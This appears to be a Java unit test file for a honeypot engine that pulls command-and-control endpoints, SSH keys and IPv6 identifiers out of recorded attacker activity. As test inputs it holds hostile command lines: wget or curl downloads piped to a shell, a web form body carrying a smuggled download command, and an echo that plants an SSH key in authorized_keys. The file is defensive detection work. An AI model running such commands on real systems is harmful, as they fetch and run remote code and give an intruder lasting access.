package org.decnet.engine.trace;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import java.util.UUID;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.decnet.testkit.Scene;
import org.junit.jupiter.api.Test;

class TraceReadingTest {
  // Keys made for this test; nobody has their private halves.
  private static final String KEY =
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";

  @Test
  void aLeakedAddressTellsOfOneCardIfItsMakerNumberedIt() {
    assertThat(leaked("fe80::221:5aff:fe12:3456")).containsExactly("ipv6_iid:02215afffe123456");
    assertThat(leaked("fe80::5054:ff:fe12:3456")).as("made up by software").isEmpty();
    assertThat(leaked("fe80::200:5eff:fe00:101")).as("shared by routers").isEmpty();
    assertThat(leaked("fe80::1")).as("chosen by hand").isEmpty();
    assertThat(leaked("fe80::9c3d:1f2a:77b0:1c2e")).as("random").isEmpty();
  }

  private static List<String> leaked(String address) {
    Event leak =
        Scene.ssh("web-1", "s1", "203.0.113.5")
            .event(EventKind.IPV6_LEAK, 1)
            .set(Field.ADDR, address)
            .build();
    return TraceReading.of(leak, new UUID(1, 1)).stream()
        .map(trace -> trace.key().type() + ":" + trace.key().value())
        .toList();
  }

  @Test
  void aTypedDownloadIsAnEndpoint() {
    assertThat(typed("cd /tmp; busybox wget http://203.0.113.9/w.sh; sh w.sh"))
        .containsExactly("c2:203.0.113.9:80");
    assertThat(typed("curl -o x HTTPS://203.0.113.9:8443/a?b=c | sh"))
        .containsExactly("c2:203.0.113.9:8443");
  }

  @Test
  void aNameCountsWithItsPathAndWithoutItsQuery() {
    assertThat(typed("wget http://Files.Example/a/b.sh?id=1"))
        .containsExactly("c2:files.example:80/a/b.sh");
  }

  @Test
  void aUrlThatNothingFetchesIsNoEndpoint() {
    assertThat(typed("echo http://203.0.113.9/x")).isEmpty();
    assertThat(typed("wget --help; echo http://203.0.113.9/x")).isEmpty();
    assertThat(typed("wget gopher://203.0.113.9/x")).isEmpty();
  }

  @Test
  void whatIsPrivateOrLocalIsNobodys() {
    assertThat(typed("wget http://192.168.1.1:8088/Mozi.m")).isEmpty();
    assertThat(typed("wget http://10.0.0.1/a; wget http://127.0.0.1/a; wget http://localhost/a"))
        .isEmpty();
    assertThat(typed("wget http://999.1.1.1/a; wget http://1.2.3/a; wget http://:80/a")).isEmpty();
  }

  @Test
  void aFormThatCarriesADownloadIsRead() {
    Event request =
        event(EventKind.HTTP_REQUEST)
            .set(Field.BODY, "cmd=cd+/tmp;wget+http://203.0.113.9/bins.sh+-O+x")
            .build();
    assertThat(texts(request)).containsExactly("c2:203.0.113.9:80");
  }

  @Test
  void aKeyThatIsLeftBehindIsItsOwnersWhereverItIsSeen() {
    List<String> typed = typed("echo \"" + KEY + " me\" >> .ssh/authorized_keys");
    Event stored =
        event(EventKind.DB_COMMAND).set(Field.STATEMENT, "set x \n" + KEY + "\n").build();
    assertThat(typed).hasSize(1).allMatch(text -> text.startsWith("ssh_key:SHA256:"));
    assertThat(texts(stored)).isEqualTo(typed);
  }

  @Test
  void halfAKeyIsNone() {
    assertThat(typed("echo " + KEY.substring(0, 20))).isEmpty();
    assertThat(typed("echo ssh-rsa " + KEY.substring("ssh-ed25519 ".length()))).isEmpty();
    assertThat(typed("ssh-rsa")).isEmpty();
  }

  @Test
  void hostileLengthsAreBounded() {
    assertThat(typed("wget " + "http://203.0.113.9/".repeat(5_000)).size()).isLessThan(20);
    assertThat(typed("wget http://a.example/" + "x".repeat(60_000)))
        .allMatch(text -> text.length() <= TraceSighting.LONGEST_VALUE + "c2:".length());
    assertThat(typed("ssh-rsa ".repeat(8_000))).isEmpty();
  }

  @Test
  void whatADecoySendsIsNoTrace() {
    Event.Builder own =
        event(EventKind.FINGERPRINT).set(Field.FINGERPRINT_TYPE, "hassh").set(Field.VALUE, "v");
    assertThat(texts(own.build())).containsExactly("hassh:v");
    assertThat(texts(own.set(Field.DIRECTION, "out").build())).isEmpty();
  }

  private static List<String> typed(String line) {
    return texts(event(EventKind.COMMAND).set(Field.COMMAND_TEXT, line).build());
  }

  private static List<String> texts(Event event) {
    return TraceReading.of(event, new UUID(1, 1)).stream()
        .map(trace -> trace.key().type() + ':' + trace.key().value())
        .toList();
  }

  private static Event.Builder event(EventKind kind) {
    return Event.builder(kind)
        .id(new UUID(2, 2))
        .time(Instant.EPOCH)
        .set(Field.SENSOR, "web-1")
        .set(Field.SOURCE, "cowrie")
        .set(Field.DECKY, "web-1");
  }
}
